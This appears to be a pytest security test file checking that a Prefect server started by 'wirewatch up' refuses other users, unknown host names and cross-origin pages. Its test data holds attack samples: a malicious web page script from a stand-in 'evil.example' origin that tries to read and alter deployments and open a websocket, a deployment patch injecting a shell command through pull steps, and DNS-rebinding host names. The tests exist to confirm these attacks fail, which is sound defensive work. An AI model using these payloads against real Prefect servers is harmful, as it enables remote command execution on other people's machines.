"""Prefect's server under `wirewatch up` serves its owner alone: no other user, no other host name, no other page."""

from __future__ import annotations

import http.client
import json
import os
import shutil
import stat
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator, Sequence
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.support.processes import Up, basic, until, up
from wirewatch.entrypoints.supervisor import answers_anyone

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not os.path.exists("/proc/self/environ"), reason="looks into /proc"),
]

CHROMIUM = shutil.which("chromium")
NOBODY = 65534
PROBES = {"GET /health", "GET /ready"}  # they say that it is there, and nothing else
CONFIG = {
    "feeds": "feeds: [{outlet: Nobody, url: 'http://127.0.0.1:9/feed'}]\n",
    "watchlist": "actors: [{id: taliban, name: Taliban, aliases: {en: [Taliban]}}]\n",
    "digests": "series: [{id: daily, at: ['07:00'], actors: [taliban]}]\n",
    "settings": "network: {host_gap: 0s}\n",
}
AS_NOBODY = """
import encodings.idna, http.client, json, os, sys, urllib.error, urllib.request
os.setgroups([]); os.setgid(65534); os.setuid(65534)
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
def status(method, url, body):
    content = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, content, {"Content-Type": "application/json"}, method=method)
    try:
        return opener.open(request, timeout=30).status
    except urllib.error.HTTPError as error:
        return error.code
print(json.dumps([os.getuid(), [status(*asked) for asked in json.load(sys.stdin)]]))
"""
EVIL_PAGE = """<!doctype html><title>evil</title><script>
const api = "ADDRESS/api", json = {"Content-Type": "application/json"};
const asked = {
  health: () => fetch(api + "/health").then(answer => answer.text()),
  read: () => fetch(api + "/deployments/filter", {method: "POST", headers: json, body: "{}"}).then(a => a.text()),
  change: () => fetch(api + "/deployments/DEPLOYMENT", {method: "PATCH", headers: json, body: 'CHANGE'})
    .then(a => a.status),
  listen: () => new Promise((opened, refused) => {
    const socket = new WebSocket(api.replace("http", "ws") + "/events/out", "prefect");
    socket.onopen = () => opened("open");
    socket.onerror = refused;
  }),
};
(async () => {
  const told = {};
  for (const name in asked) told[name] = await asked[name]().catch(() => "refused");
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
</script>"""


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Up]:
    folder = tmp_path_factory.mktemp("closed")
    (folder / "config").mkdir()
    for name, text in CONFIG.items():
        (folder / "config" / f"{name}.yaml").write_text(text)
    with up(folder / "config", folder / "var") as found:
        yield found


def as_nobody(asked: Sequence[tuple[str, str, Any]]) -> list[int]:
    """Ask as a user who owns nothing here; gives the status of each answer."""
    if os.getuid() != 0:
        pytest.skip("only root can become another user")
    command = [sys.executable, "-c", AS_NOBODY]
    done = subprocess.run(
        command, input=json.dumps(asked), stdout=subprocess.PIPE, text=True, check=True
    )
    uid, statuses = json.loads(done.stdout)
    assert uid == NOBODY
    return list(statuses)


def deployment(running: Up) -> dict[str, Any]:
    wanted = {"flows": {"name": {"any_": ["poll"]}}}
    (found,) = until(
        lambda: running.ask("deployments/filter", wanted), what="the runner to have deployed"
    )
    return dict(found)


def attack(marker: Path) -> dict[str, Any]:
    """What makes a deployment run a command of the attacker's."""
    return {
        "pull_steps": [
            {"prefect.deployments.steps.run_shell_script": {"script": f"touch {marker}"}}
        ]
    }


def answered(running: Up, path: str, **headers: str) -> int:
    """Ask with the login and with these headers; gives the status."""
    connection = http.client.HTTPConnection(urlsplit(running.address).netloc, timeout=30)
    names = {name.replace("_", "-"): value for name, value in headers.items()}
    connection.request("GET", path, headers={"Authorization": basic(running.login)} | names)
    try:
        return connection.getresponse().status
    finally:
        connection.close()


def test_the_login_is_in_a_file_of_the_owners_and_nowhere_on_screen(running: Up) -> None:
    path = running.home / "prefect-login"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert str(path) in running.said()
    assert running.login not in running.said()
    assert not [line for line in running.family().values() if running.login in line]
    assert not answers_anyone(f"{running.address}/api")


def test_another_user_gets_401_from_every_route(running: Up) -> None:
    described = running.ask("openapi.json", method="GET")["paths"]
    routes = [(method.upper(), path) for path, methods in described.items() for method in methods]
    filled = {
        path: "/".join(str(uuid.uuid4()) if "{" in part else part for part in path.split("/"))
        for _, path in routes
    }
    asked: list[tuple[str, str, Any]] = [
        (method, f"{running.address}/api{filled[path]}", None if method == "GET" else {})
        for method, path in routes
    ]
    got = {
        f"{method} {path}": status
        for (method, path), status in zip(routes, as_nobody(asked), strict=True)
    }
    assert len(got) > 150
    assert {route: status for route, status in got.items() if status != 401} == dict.fromkeys(
        PROBES, 200
    )


def test_another_user_cannot_have_a_command_run(running: Up, tmp_path: Path) -> None:
    target = deployment(running)
    url = f"{running.address}/api/deployments/{target['id']}"
    assert as_nobody(
        [("PATCH", url, attack(tmp_path / "ran")), ("POST", f"{url}/create_flow_run", {})]
    ) == [401, 401]
    assert deployment(running)["pull_steps"] == target["pull_steps"]
    assert not (tmp_path / "ran").exists()


def test_an_unknown_host_name_is_refused_even_with_the_login(running: Up) -> None:
    port = urlsplit(running.address).port
    assert answered(running, "/api/admin/version") == 200
    assert answered(running, "/") == 200
    for host in (
        "rebind.evil.example",
        f"rebind.evil.example:{port}",
        "127.0.0.1",
        f"localhost:{port}",
        "",
    ):
        assert [
            answered(running, path, Host=host)
            for path in ("/api/admin/version", "/api/health", "/")
        ] == [400] * 3


def test_a_web_socket_of_another_origin_is_refused(running: Up) -> None:
    opening = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec_WebSocket_Version": "13"}
    opening |= {
        "Sec_WebSocket_Key": "AAAAAAAAAAAAAAAAAAAAAA==",
        "Sec_WebSocket_Protocol": "prefect",
    }
    assert answered(running, "/api/events/out", **opening) == 101
    assert answered(running, "/api/events/out", Origin="http://evil.example", **opening) == 400


@pytest.mark.skipif(CHROMIUM is None, reason="no browser")
def test_a_page_of_another_origin_reaches_nothing(running: Up, tmp_path: Path) -> None:
    target = deployment(running)
    page = EVIL_PAGE.replace("ADDRESS", running.address).replace("DEPLOYMENT", target["id"])
    told = opened_in_a_browser(
        page.replace("CHANGE", json.dumps(attack(tmp_path / "ran"))), tmp_path
    )
    assert told == {
        "health": "refused",
        "read": "refused",
        "change": "refused",
        "listen": "refused",
    }
    assert deployment(running)["pull_steps"] == target["pull_steps"]


def opened_in_a_browser(page: str, folder: Path) -> dict[str, str]:
    """Open a page of evil.example, served on this machine; gives what the page told its own server."""
    told: list[bytes] = []
    heard = threading.Event()

    class Evil(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.answer(page.encode() if self.path == "/" else b"")

        def do_POST(self) -> None:
            told.append(self.rfile.read(int(self.headers["Content-Length"])))
            self.answer(b"")
            heard.set()

        def answer(self, content: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, format: str, *args: object) -> None:
            pass

    assert CHROMIUM is not None
    with HTTPServer(("127.0.0.1", 0), Evil) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        flags = "--headless --no-sandbox --disable-gpu --disable-background-networking --disable-component-update"
        flags += (
            " --disable-sync --no-proxy-server --remote-debugging-port=0"  # a port keeps it open
        )
        command = [CHROMIUM, *flags.split(), f"--user-data-dir={folder / 'profile'}"]
        command += [
            "--host-resolver-rules=MAP evil.example 127.0.0.1",
            f"http://evil.example:{server.server_port}/",
        ]
        quiet = subprocess.DEVNULL
        with subprocess.Popen(
            command, stdout=quiet, stderr=quiet, start_new_session=True
        ) as browser:
            try:
                assert heard.wait(120), "the page told nothing"
            finally:
                os.killpg(browser.pid, 9)
        server.shutdown()
    return dict(json.loads(told[0]))
